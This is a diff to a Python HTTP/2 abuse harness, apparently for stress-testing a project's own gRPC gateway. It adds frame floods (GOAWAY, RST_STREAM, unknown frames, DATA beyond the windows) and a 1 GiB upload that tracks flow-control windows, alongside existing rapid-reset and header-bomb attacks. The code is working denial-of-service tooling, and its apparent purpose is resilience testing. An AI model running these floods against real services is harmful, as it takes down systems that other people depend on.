@@ -15,12 +15,13 @@ from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass, field
 
-from hyperframe.frame import PingFrame, PriorityFrame, SettingsFrame
+from hyperframe.frame import PingFrame, PriorityFrame, SettingsFrame, WindowUpdateFrame
 
-from abuse.wire import (
+from .wire import (
     ECHO,
     FLOOD,
     HOST,
+    LARGE_SINK,
     PREFACE,
     SINK,
     acknowledge,
@@ -33,6 +34,7 @@ from abuse.wire import (
     request,
     reset,
     settings,
+    split_frames,
     window_update,
 )
 
@@ -45,7 +47,11 @@ WIDE_WINDOW = (
     + acknowledge()
     + window_update(0, LARGEST_WINDOW - 65_535)
 )
-HEADERS, CONTINUATION, END_HEADERS = 1, 9, 4
+HEADERS, GOAWAY, CONTINUATION, UNKNOWN = 1, 7, 9, 0xBB
+DEFAULT_WINDOW = 65_535
+LARGEST_FRAME = 16_384
+PREFIX_BYTES = 5
+"""Of a gRPC message."""
 TURN_S = 0.05
 CHUNK_BYTES = 65_536
 STREAM_IDS = range(1, 2**31, 2)
@@ -61,6 +67,8 @@ class Attack:
     reads: bool = True
     tls: bool = False
     """On the port for TLS."""
+    message_bytes: int = 0
+    """Length of a message on stream 1, sent as fast as the gateway's windows allow; 0: there is none."""
 
 
 def once(*parts: bytes) -> Chunks:
@@ -89,6 +97,11 @@ def header_bombs(references: int) -> Chunks:
     return lambda: itertools.chain(
         (BEGIN, headers_frame(1, filler)), (headers_frame(s, bomb) + reset(s) for s in range(3, 2**31, 2))
     )
+
+
+def large_message(size_bytes: int) -> Attack:
+    opening = once(BEGIN + open_rpc(1, LARGE_SINK) + data(1, message(b"", size_bytes)))
+    return Attack(opening, message_bytes=size_bytes)
 
 
 def _rest_of(length: int) -> bytes:
@@ -128,12 +141,17 @@ ATTACKS = {
     "header bombs below the limit": Attack(header_bombs(15), connections=4),
     "empty DATA": Attack(again(BEGIN + open_rpc(1, SINK), data(1, b""))),
     "DATA of one byte": Attack(again(BEGIN + open_rpc(1, SINK), data(1, b"\0"))),
+    "one message of 1 GiB": large_message(1 << 30),
+    "DATA beyond the windows": Attack(again(BEGIN + open_rpc(1, SINK), data(1, bytes(LARGEST_FRAME)))),
     "PING": Attack(again(BEGIN, PingFrame(0, b"flooding").serialize()), connections=4),
     "PING, unread": Attack(again(BEGIN, PingFrame(0, b"flooding").serialize()), connections=4, reads=False),
     "SETTINGS": Attack(again(BEGIN, settings({3: 100})), connections=4),
     "PRIORITY": Attack(again(BEGIN, PriorityFrame(1, depends_on=3, stream_weight=1).serialize()), connections=4),
     "WINDOW_UPDATE": Attack(again(BEGIN, window_update(0, 1)), connections=4),
     "WINDOW_UPDATE of a stream": Attack(again(BEGIN + open_rpc(1, SINK), window_update(1, 1)), connections=4),
+    "RST_STREAM of no stream": Attack(again(BEGIN, reset(1)), connections=4),
+    "GOAWAY": Attack(again(BEGIN, raw_frame(GOAWAY, 0, 0, bytes(8))), connections=4),
+    "unknown frames": Attack(again(BEGIN, raw_frame(UNKNOWN, 0, 0, b"flooding")), connections=4),
     "rapid reset": Attack(by_stream(lambda s: headers_frame(s, _OPENING) + reset(s)), connections=4),
     "rapid reset, unread": Attack(
         by_stream(lambda s: headers_frame(s, _OPENING) + data(s, message(), end=True) + reset(s)),
@@ -157,13 +175,55 @@ class Connection:
     def send(self) -> int:
         """Send some more, and return how much; 0: there is no more."""
         while len(self.rest) < CHUNK_BYTES:
-            more = list(itertools.islice(self.chunks, 64))
+            more = self.more()
             if not more:
                 break
-            self.rest = memoryview(bytes(self.rest) + b"".join(more))
+            self.rest = memoryview(bytes(self.rest) + more)
         sent = self.socket.send(self.rest[:CHUNK_BYTES]) if self.rest else 0
         self.rest = self.rest[sent:]
         return sent
+
+    def more(self) -> bytes:
+        """What is to be sent next; empty: nothing for now."""
+        return b"".join(itertools.islice(self.chunks, 64))
+
+    def receive(self) -> bytes:
+        """What has come; empty: the gateway closed the connection."""
+        return self.socket.recv(1 << 18)
+
+
+@dataclass(slots=True)
+class Upload(Connection):
+    """Sends the rest of a message on stream 1, no faster than the gateway opens its windows."""
+
+    left_bytes: int = 0
+    windows: dict[int, int] = field(
+        default_factory=lambda: {0: DEFAULT_WINDOW - PREFIX_BYTES, 1: DEFAULT_WINDOW - PREFIX_BYTES}
+    )
+    received: bytes = b""
+    """The part of a frame."""
+
+    def more(self) -> bytes:
+        if opening := Connection.more(self):
+            return opening
+        size = min(self.left_bytes, LARGEST_FRAME, *self.windows.values())
+        if size <= 0:
+            return b""
+        self.left_bytes -= size
+        for stream in self.windows:
+            self.windows[stream] -= size
+        return data(1, bytes(size), end=not self.left_bytes)
+
+    def receive(self) -> bytes:
+        came = Connection.receive(self)
+        frames, self.received = split_frames(self.received + came)
+        for frame in frames:
+            if isinstance(frame, WindowUpdateFrame):
+                self.windows[frame.stream_id] += frame.window_increment
+            elif isinstance(frame, SettingsFrame):
+                initial = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, DEFAULT_WINDOW)
+                self.windows[1] += initial - DEFAULT_WINDOW
+        return came
 
 
 @dataclass(slots=True)
@@ -192,9 +252,11 @@ class Attacker:
         connected = socket.create_connection((HOST, self.port), 20)
         connected.setblocking(False)
         self.opened += 1
-        selector.register(
-            connected, selectors.EVENT_READ | selectors.EVENT_WRITE, Connection(connected, self.attack.chunks())
-        )
+        selector.register(connected, selectors.EVENT_READ | selectors.EVENT_WRITE, self._connection(connected))
+
+    def _connection(self, connected: socket.socket) -> Connection:
+        chunks, message_bytes = self.attack.chunks(), self.attack.message_bytes
+        return Upload(connected, chunks, left_bytes=message_bytes) if message_bytes else Connection(connected, chunks)
 
     def _send(self, connection: Connection) -> int:
         sent = connection.send()
@@ -205,16 +267,22 @@ class Attacker:
         try:
             if events & selectors.EVENT_WRITE and not self._send(connection):
                 selector.modify(connection.socket, selectors.EVENT_READ, connection)
-            if events & selectors.EVENT_READ and self.attack.reads and not connection.socket.recv(1 << 18):
-                raise ConnectionError
-            if events & selectors.EVENT_READ and not self.attack.reads:
-                selector.modify(connection.socket, selectors.EVENT_WRITE, connection)
+            if events & selectors.EVENT_READ:
+                self._receive(selector, connection)
         except BlockingIOError:
             return
         except OSError:
             selector.unregister(connection.socket)
             connection.socket.close()
             self._open(selector)
+
+    def _receive(self, selector: selectors.BaseSelector, connection: Connection) -> None:
+        if not self.attack.reads:
+            selector.modify(connection.socket, selectors.EVENT_WRITE, connection)
+        elif not connection.receive():
+            raise ConnectionError
+        elif self.attack.message_bytes:  # its windows may be open again
+            selector.modify(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
 
 
 @contextmanager
